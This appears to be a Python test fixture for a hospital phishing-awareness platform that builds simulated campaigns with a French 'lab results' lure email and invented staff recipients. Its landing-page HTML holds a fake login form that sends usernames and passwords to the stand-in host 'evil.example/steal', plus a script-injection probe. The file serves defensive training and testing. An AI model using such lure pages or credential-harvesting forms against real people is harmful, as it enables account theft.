"""Synthetic campaigns for the tracking and results tests (names and addresses are invented)."""

from __future__ import annotations

from datetime import timedelta

from django.utils import timezone

from hygie.awareness import engine
from hygie.awareness.models import (
    Campaign,
    CampaignRecipient,
    LandingPage,
    MailTemplate,
    SendingProfile,
    TrainingModule,
)
from hygie.core.models import Department, Person

# What a desktop browser announces (a person's click), and what a scanner does.
BROWSER_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36"
)
SCANNER_UA = "python-requests/2.32"
LANDING_HTML = (
    "<h1>Portail des résultats</h1>"
    '<form method="get" action="https://evil.example/steal"><label>Identifiant '
    '<input name="username"></label><label>Mot de passe <input type="password" '
    'name="password"></label><button>Se connecter</button></form>'
    '<script>alert(1)</script><a href="https://evil.example/" onclick="x()">aide</a>'
)
CLUES_FR = [
    {"title": "Une urgence artificielle", "explanation": "« 24 heures » pousse à cliquer."},
    {"title": "Un lien vers un portail inconnu", "explanation": "Survolez le lien."},
]
CLUES_EN = [
    {"title": "Artificial urgency", "explanation": '"24 hours" pushes you to click.'},
    {"title": "A link to an unknown portal", "explanation": "Hover over the link."},
]


def make_campaign(
    establishment,
    *,
    recipients: int = 3,
    status: str = "running",
    enrol: bool = True,
    name: str = "Campagne résultats labo",
    sent_minutes_ago: int = 30,
    launched_at=None,
    host: str = "127.0.0.1",
    port: int = 2525,
    rate_per_minute: int = 0,
):
    now = timezone.now()
    profile = SendingProfile.objects.create(
        establishment=establishment,
        name=f"Relais {name}",
        host=host,
        port=port,
        security="none",
        envelope_from="simulation@example.org",
        header_from="Laboratoire <labo@example.org>",
        rate_per_minute=rate_per_minute,
    )
    template = MailTemplate.objects.create(
        establishment=establishment,
        lure_id="lab-results",
        language="fr",
        name="Résultats de laboratoire",
        sender_name="Laboratoire - Résultats",
        subject="Résultats disponibles pour {{ first_name }}",
        html='<p>Bonjour {{ first_name }},</p><p><a href="{{ tracking_link }}">Voir</a></p>',
        text="Bonjour {{ first_name }}, {{ tracking_link }}",
        clues=CLUES_FR,
    )
    MailTemplate.objects.get_or_create(
        establishment=None,
        lure_id="lab-results",
        language="en",
        source="library",
        version=1,
        defaults={"name": "Lab results", "subject": "Lab results", "clues": CLUES_EN},
    )
    landing = LandingPage.objects.create(
        establishment=establishment, name="Portail des résultats", language="fr", html=LANDING_HTML
    )
    module = None
    if enrol:
        module, _created = TrainingModule.objects.get_or_create(
            establishment=establishment,
            slug="reperer-hameconnage",
            language="fr",
            version=1,
            defaults={
                "title": "Repérer l'hameçonnage",
                "body_markdown": "# Repérer l'hameçonnage",
                "duration_minutes": 7,
            },
        )
    campaign = Campaign.objects.create(
        establishment=establishment,
        name=name,
        status=status,
        sending_profile=profile,
        template_a=template,
        landing_page=landing,
        window_start=now - timedelta(hours=2),
        window_end=now + timedelta(days=2),
        enrol_module=module,
        launched_at=launched_at or now - timedelta(hours=1),
    )
    departments = [
        Department.objects.get_or_create(establishment=establishment, name=label)[0]
        for label in ("Cardiologie", "Urgences")
    ]
    for index in range(recipients):
        department = departments[index % 2]
        person = Person.objects.create(
            establishment=establishment,
            department=department,
            first_name=f"Prénom{index}",
            last_name=f"Nom{index}",
            email=f"agent{index}.{campaign.pk}@example.org",
            profession="Infirmier" if index % 2 else "Médecin",
        )
        CampaignRecipient.objects.create(
            establishment=establishment,
            campaign=campaign,
            person=person,
            email=person.email,
            first_name=person.first_name,
            last_name=person.last_name,
            department_name=department.name,
            profession=person.profession,
            language="en" if index == 2 else "fr",
            token=engine.new_token(),
            sent_at=now - timedelta(minutes=sent_minutes_ago) if sent_minutes_ago else None,
        )
    return campaign
